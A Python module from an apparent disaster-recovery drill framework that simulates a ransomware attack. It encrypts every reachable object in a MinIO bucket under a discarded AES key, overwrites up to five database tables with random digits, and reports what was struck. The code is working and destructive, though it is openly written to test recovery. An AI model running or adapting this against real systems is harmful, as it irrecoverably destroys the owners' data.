"""Somebody with the application's own credentials writes over all that these reach, in place."""

from __future__ import annotations

import concurrent.futures
import itertools
import secrets
from collections.abc import Mapping
from typing import Any, BinaryIO, Final, Literal, cast

import minio
import psycopg
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from psycopg import sql

from drills.contract import Disaster
from fixtures.damage import (
    STORE_ERRORS,
    Column,
    Keys,
    Overwritten,
    bound,
    listed,
    looking_first,
    overwrite,
    rewritable,
    strikable,
    user_tables,
    writable_columns,
)
from fixtures.deployment import ClientAccess, Deployment, ObjectStore

TABLES: Final = 5
WORKERS: Final = 8
BATCH: Final = 256
SAMPLE: Final = 500
MARK_BYTES: Final = 8


class _Ciphertext:
    """A stream: the mark, a nonce, and what ``source`` holds, encrypted by AES-256 in counter mode."""

    def __init__(self, source: Any, *, key: bytes, mark: bytes) -> None:
        nonce = secrets.token_bytes(16)
        self._source, self._ready = source, mark + nonce
        self._encryptor = Cipher(algorithms.AES(key), modes.CTR(nonce)).encryptor()

    def read(self, size: int) -> bytes:
        """At most so many bytes; none at the end."""
        if not self._ready:
            return self._encryptor.update(self._source.read(size))
        taken, self._ready = self._ready[:size], self._ready[size:]
        return taken


class Ransomware:
    """See ``drills.contract.Disaster``."""

    name = "ransomware"
    database: Literal["", "gone", "wrong"] = "wrong"
    objects: Literal["", "gone", "emptied", "some", "overwritten"] = "overwritten"
    configuration = False
    health = False

    def __init__(self) -> None:
        self._mark = b""
        self._listed, self._encrypted = 0, Keys()
        self._tables: list[Overwritten] = []

    def strike(self, deployment: Deployment) -> None:
        """Replace objects by ciphertext under a key that is thrown away, and rows by random digits.

        The application's role and keys are all that is used: what row-level security, triggers, missing rights or a
        store's own locks protect stays as it is. Of the tables, the five largest that can be struck are.
        """
        self._mark, self._encrypted, self._tables = secrets.token_bytes(MARK_BYTES), Keys(), []
        access = deployment.client_access()
        looking_first(deployment)()
        self._strike_objects(access.objects)
        self._strike_tables(access)

    def _strike_objects(self, store: ObjectStore) -> None:
        client, key = store.client(connections=WORKERS), secrets.token_bytes(32)

        def encrypt(name: str) -> int | None:
            return _encrypt(client, store.bucket, name, key=key, mark=self._mark)

        found = Keys(strikable(store))
        self._listed, names = len(found), iter(found)
        with concurrent.futures.ThreadPoolExecutor(WORKERS) as pool:
            while batch := list(itertools.islice(names, BATCH)):
                struck = zip(batch, pool.map(encrypt, batch), strict=True)
                self._encrypted.add((name, size) for name, size in struck if size is not None)

    def _strike_tables(self, access: ClientAccess) -> None:
        mark = self._mark.hex()

        def digits(column: Column) -> sql.Composable:
            text = sql.SQL("{} || md5(random()::text) || substr(md5(random()::text), 1, 16)").format(sql.Literal(mark))
            return sql.SQL("decode({}, 'hex')").format(text) if column.kind == "bytea" else text

        with psycopg.connect(access.dsn, autocommit=True, connect_timeout=5) as connection:
            bound(connection)
            for table in rewritable(user_tables(connection)):
                columns = writable_columns(connection, table)
                done = overwrite(connection, table, columns, mark=mark, value=digits)
                if done is not None:
                    self._tables.append(done)
                if len(self._tables) == TABLES:
                    return

    def places(self, deployment: Deployment) -> Mapping[str, str]:
        """The beginning of every object, and every table struck, read by the operator."""
        tables = {str(done): self._table_speaks_against(deployment, done) for done in self._tables}
        objects = f"{len(self._encrypted):,} of {self._listed:,} objects of bucket {deployment.objects.bucket}"
        return {
            objects: self._objects_speak(deployment),
            **(tables or {"tables": "none could be written over with the application's credentials"}),
        }

    def _table_speaks_against(self, deployment: Deployment, done: Overwritten) -> str:
        try:
            with deployment.database.connect() as connection:
                return done.speaks_against(connection)
        except psycopg.Error as problem:
            return f"cannot be told: {problem}"

    def _objects_speak(self, deployment: Deployment) -> str:
        """Empty text where every object encrypted has its new size, and some by chance begin with the mark.

        An object that its owner has deleted since says nothing.
        """
        if not len(self._encrypted):
            return "none could be written over with the application's credentials"
        store = deployment.objects
        try:
            for key, size in listed(store):
                if self._encrypted.size(key) not in (None, size):
                    return f"{key} has another size than what was written over it"
            return self._first_other(store)
        except STORE_ERRORS as problem:
            return f"cannot be told: {problem}"

    def _first_other(self, store: ObjectStore) -> str:
        client, sample = store.client(connections=WORKERS), self._encrypted.sample(SAMPLE)
        with concurrent.futures.ThreadPoolExecutor(WORKERS) as pool:
            struck = pool.map(lambda key: _holds(client, store.bucket, key, self._mark), sample)
            spared = next((key for key, done in zip(sample, struck, strict=True) if not done), "")
        return f"{spared} does not begin with the mark of what was written over it" if spared else ""


def _encrypt(client: minio.Minio, bucket: str, name: str, *, key: bytes, mark: bytes) -> int | None:
    """Replace one object by its ciphertext, which is longer; its size in bytes now, none where that was not possible.

    One of up to 5 MiB is read whole before it is written, larger ones in parts that take effect with the last.
    """
    try:
        response = client.get_object(bucket, name)
        try:
            size = int(response.headers["content-length"]) + len(mark) + 16
            stream = cast(BinaryIO, _Ciphertext(response, key=key, mark=mark))
            client.put_object(bucket, name, stream, size)
        finally:
            response.close()
            response.release_conn()
    except STORE_ERRORS:
        return None
    return size


def _holds(client: minio.Minio, bucket: str, name: str, mark: bytes) -> bool:
    """Whether an object begins with the mark, or is not there any more."""
    try:
        response = client.get_object(bucket, name, length=len(mark))
    except (minio.S3Error, minio.error.InvalidResponseError):
        # Some servers answer a GET with an error in which the client reads no code; a HEAD has no body to misread.
        if _absent(client, bucket, name):
            return True
        raise
    try:
        return bool(response.read() == mark)
    finally:
        response.close()
        response.release_conn()


def _absent(client: minio.Minio, bucket: str, name: str) -> bool:
    try:
        client.stat_object(bucket, name)
    except minio.S3Error as problem:
        return problem.code in ("NoSuchKey", "NoSuchObject")
    return False


DISASTER: Final[Disaster] = Ransomware()
